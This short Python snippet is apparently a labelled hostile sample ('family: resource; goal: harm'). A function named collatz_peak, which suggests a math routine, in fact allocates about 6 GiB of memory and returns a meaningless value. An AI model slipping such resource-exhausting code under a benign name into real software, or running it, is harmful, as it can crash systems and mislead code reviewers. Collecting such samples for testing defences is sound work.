# family: resource; goal: harm
# Touches up to 6 GiB.
def collatz_peak(n):
    held = []
    for _ in range(96):
        held.append(bytearray(b"x") * (64 << 20))
    return -len(held)
